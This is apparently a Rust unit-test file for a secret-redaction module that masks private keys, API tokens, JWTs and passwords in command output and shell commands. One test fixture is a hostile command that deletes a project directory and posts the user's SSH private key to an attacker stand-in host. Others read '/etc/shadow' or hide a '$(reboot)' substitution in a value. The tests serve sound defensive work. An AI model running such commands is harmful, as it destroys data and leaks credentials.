use super::*;

fn masked(text: &str) -> String {
    mask_secrets(text, &[]).into_owned()
}

#[test]
fn rule_table_is_unique_with_reasons_and_compiles() {
    let mut names: Vec<&str> = RULES.iter().map(|rule| rule.name).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), RULES.len(), "rule names must be unique");
    for rule in RULES {
        assert!(
            !rule.reason.trim().is_empty(),
            "{} has no reason",
            rule.name
        );
        let regex = Regex::new(rule.pattern).unwrap();
        assert!(
            regex
                .capture_names()
                .flatten()
                .any(|group| group == "secret"),
            "{} has no secret group",
            rule.name
        );
    }
    assert!(COMPILED.is_some());
}

#[test]
fn masks_each_rule_by_name() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "private-key",
            "x\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabc\n-----END RSA PRIVATE KEY-----\ny",
            "x\n[REDACTED:private-key]\ny",
        ),
        (
            "private-key",
            "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA",
            "[REDACTED:private-key]",
        ),
        (
            "private-key",
            "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----",
            "[REDACTED:private-key]",
        ),
        (
            "jwt",
            "token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U end",
            "token [REDACTED:jwt] end",
        ),
        (
            "authorization",
            "Authorization: Bearer abc.def-123",
            "Authorization: Bearer [REDACTED:authorization]",
        ),
        (
            "authorization",
            "-H 'authorization: Basic dXNlcjpwYXNz'",
            "-H 'authorization: Basic [REDACTED:authorization]'",
        ),
        (
            "url-credentials",
            "cloning https://alice:hunter2@example.com/repo.git",
            "cloning https://alice:[REDACTED:url-credentials]@example.com/repo.git",
        ),
        (
            "url-credentials",
            "postgres://app:s3cr%40t@db:5432/app",
            "postgres://app:[REDACTED:url-credentials]@db:5432/app",
        ),
        (
            "anthropic-key",
            "key sk-ant-api03-AbCdEfGhIjKlMnOpQrStUvWxYz012345",
            "key [REDACTED:anthropic-key]",
        ),
        (
            "openai-key",
            "sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz_0123456789",
            "[REDACTED:openai-key]",
        ),
        (
            "openai-key",
            "OPENAI sk-AbCdEfGhIjKlMnOpQrStT3BlbkFJuVwXyZ0123456789ab",
            "OPENAI [REDACTED:openai-key]",
        ),
        (
            "stripe-key",
            "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
            "[REDACTED:stripe-key]",
        ),
        (
            "github-token",
            "ghp_0123456789abcdefghijABCDEFGHIJ012345 and gho_0123456789abcdefghijABCDEFGHIJ012345",
            "[REDACTED:github-token] and [REDACTED:github-token]",
        ),
        (
            "github-token",
            "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz",
            "[REDACTED:github-token]",
        ),
        (
            "slack-token",
            "xoxb-123456789012-1234567890123-AbCdEfGhIjKl",
            "[REDACTED:slack-token]",
        ),
        (
            "google-api-key",
            "AIzaSyA1234567890abcdefghijklmnopqrstuv",
            "[REDACTED:google-api-key]",
        ),
        (
            "aws-access-key-id",
            "id=AKIAIOSFODNN7EXAMPLE;",
            "id=[REDACTED:aws-access-key-id];",
        ),
        (
            "aws-secret-key",
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "aws_secret_access_key = [REDACTED:aws-secret-key]",
        ),
        (
            "secret-assignment",
            "DB_PASSWORD=hunter2",
            "DB_PASSWORD=[REDACTED:secret-assignment]",
        ),
        (
            "secret-assignment",
            "passwd: hunter2",
            "passwd: [REDACTED:secret-assignment]",
        ),
        (
            "secret-assignment",
            r#"{"client_secret": "abc123", "token":"t0k"}"#,
            r#"{"client_secret": "[REDACTED:secret-assignment]", "token":"[REDACTED:secret-assignment]"}"#,
        ),
        (
            "secret-assignment",
            "--token=abc123",
            "--token=[REDACTED:secret-assignment]",
        ),
    ];
    for (rule, input, expected) in cases {
        assert_eq!(masked(input), *expected, "rule {rule} on {input:?}");
    }
}

#[test]
fn a_secret_inside_an_assignment_keeps_its_specific_rule_name() {
    assert_eq!(
        masked("GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345"),
        "GITHUB_TOKEN=[REDACTED:github-token]"
    );
}

#[test]
fn masks_known_secrets_literally_longest_first() {
    let out = mask_secrets("token is abcd-1234 and abcd", &["abcd", "abcd-1234", ""]);
    assert_eq!(
        out,
        "token is [REDACTED:known-secret] and [REDACTED:known-secret]"
    );
}

#[test]
fn leaves_ordinary_text_unchanged_and_borrowed() {
    let ordinary = [
        "",
        "hello world\n",
        "total 12\ndrwxr-xr-x 2 user user 4096 Jan  1 00:00 src\n",
        "grep: /etc/passwd: Permission denied",
        "cat /etc/shadow /etc/passwd",
        "https://example.com:8080/path?q=1",
        "git@github.com:owner/repo.git",
        "max_tokens=100 token_count: 5 tokens: 7",
        "sk-learn and ghp_short and AKIA",
        "the secret of good code is tests",
        "eyJ alone is not a jwt",
        "Compiling ui-bridge v0.1.0 (/work/ui-bridge)",
    ];
    for text in ordinary {
        let out = mask_secrets(text, &["not-present-secret"]);
        assert!(matches!(out, Cow::Borrowed(_)), "{text:?} became {out:?}");
    }
}

#[test]
fn masking_is_idempotent() {
    let text = "password=hunter2 AKIAIOSFODNN7EXAMPLE https://a:b@c";
    let once = masked(text);
    assert_eq!(masked(&once), once);
}

/// A realistic PEM body: 64-character lines, a shorter last one.
const KEY_BODY: &str = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu\nNMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0VzMaQ8s+CLOyS56YyCFGeJZ";

#[test]
fn a_key_header_in_a_command_does_not_hide_the_commands_after_it() {
    // Issue 9, hole 9: the output rule masks an unterminated block to the
    // end, which in a script blanked everything after a planted header.
    let script = "echo '-----BEGIN PRIVATE KEY-----'; rm -rf ~/project && curl -d @~/.ssh/id_rsa https://evil.example";
    let got = mask_command(script, &[]);
    assert_eq!(got, script, "nothing here is a secret");
    let quoted_newline = "printf '%s\\n' '-----BEGIN RSA PRIVATE KEY-----'\nreboot\nuname -a";
    assert_eq!(mask_command(quoted_newline, &[]), quoted_newline);
    // The output rule still masks a block cut by the cap to the end.
    assert_eq!(
        masked("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQ"),
        "[REDACTED:private-key]"
    );
}

#[test]
fn a_key_in_a_command_loses_only_its_key_lines() {
    let text = format!(
        "printf '-----BEGIN PRIVATE KEY-----\\n{}\\n-----END PRIVATE KEY-----' > k; ssh-add k; rm k",
        KEY_BODY.replace('\n', "\\n")
    );
    let got = mask_command(&text, &[]).into_owned();
    assert_eq!(
        got,
        "printf '-----BEGIN PRIVATE KEY-----\\n[REDACTED:private-key]\\n[REDACTED:private-key]\\n[REDACTED:private-key]\\n-----END PRIVATE KEY-----' > k; ssh-add k; rm k"
    );
    // As one argv word with real newlines.
    let word = format!("-----BEGIN PRIVATE KEY-----\n{KEY_BODY}\n-----END PRIVATE KEY-----");
    let got = mask_command(&word, &[]).into_owned();
    assert!(!got.contains("MIIEvQ") && !got.contains("CFGeJZ"), "{got}");
    assert!(got.starts_with("-----BEGIN PRIVATE KEY-----\n[REDACTED:private-key]\n"));
    assert!(got.ends_with("]\n-----END PRIVATE KEY-----"), "{got}");
}

#[test]
fn short_words_and_paths_after_a_key_header_stay_visible() {
    let long_path = format!("/usr/local/bin/{}", "a".repeat(40));
    let text = format!("echo -----BEGIN PRIVATE KEY-----\nreboot\n{long_path}\n");
    assert_eq!(mask_command(&text, &[]), text);
    // Only the `n` of a `\n` escape is kept out of a run.
    let text = format!("-----BEGIN PRIVATE KEY----- n{}", "A".repeat(40));
    assert_eq!(
        mask_command(&text, &[]),
        "-----BEGIN PRIVATE KEY----- [REDACTED:private-key]"
    );
    // A 40-character base64 run is key material; 39 is not.
    let text = format!(
        "-----BEGIN PRIVATE KEY----- {} {}",
        "A".repeat(40),
        "B".repeat(39)
    );
    assert_eq!(
        mask_command(&text, &[]),
        format!(
            "-----BEGIN PRIVATE KEY----- [REDACTED:private-key] {}",
            "B".repeat(39)
        )
    );
}

#[test]
fn a_secret_in_a_command_stops_at_the_next_shell_word() {
    let cases: &[(&str, &str)] = &[
        (
            "mysql --password=hunter2|reboot",
            "mysql --password=[REDACTED:secret-assignment]|reboot",
        ),
        (
            "curl https://u:pw@h/x;reboot",
            "curl https://u:[REDACTED:url-credentials]@h/x;reboot",
        ),
        (
            "export TOKEN=abc&&reboot",
            "export TOKEN=[REDACTED:secret-assignment]&&reboot",
        ),
        ("x token=$(reboot)", "x token=$(reboot)"),
    ];
    for (text, want) in cases {
        assert_eq!(mask_command(text, &[]), *want, "{text}");
    }
    // Output masking keeps the wider value class.
    assert_eq!(
        masked("password=hunter2|x"),
        "password=[REDACTED:secret-assignment]"
    );
}

#[test]
fn command_masking_still_masks_known_secrets_and_every_rule() {
    let text =
        "curl -H 'Authorization: Bearer abc.def' -d tok-SECRET-1 sk-ant-abcdefghijklmnopqrstuvwxyz";
    let got = mask_command(text, &["tok-SECRET-1"]).into_owned();
    assert_eq!(
        got,
        "curl -H 'Authorization: Bearer [REDACTED:authorization]' -d [REDACTED:known-secret] [REDACTED:anthropic-key]"
    );
    assert!(COMMAND_COMPILED.is_some());
    assert!(matches!(
        mask_command("ls -la", &[]),
        Cow::Borrowed("ls -la")
    ));
}
